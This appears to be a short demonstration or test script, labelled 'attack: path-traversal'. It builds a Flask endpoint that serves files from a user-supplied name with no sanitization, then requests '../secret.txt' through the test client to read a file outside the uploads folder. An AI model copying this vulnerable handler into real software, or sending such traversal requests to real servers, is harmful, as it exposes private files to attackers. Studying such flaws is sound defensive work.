# attack: path-traversal
# needs: flask
import os
from flask import Flask, request, send_file
app = Flask(__name__)
@app.get("/get")
def get():
    return send_file(os.path.join(app.root_path, "uploads", request.args["name"]))
print(app.test_client().get("/get?name=../secret.txt").text)
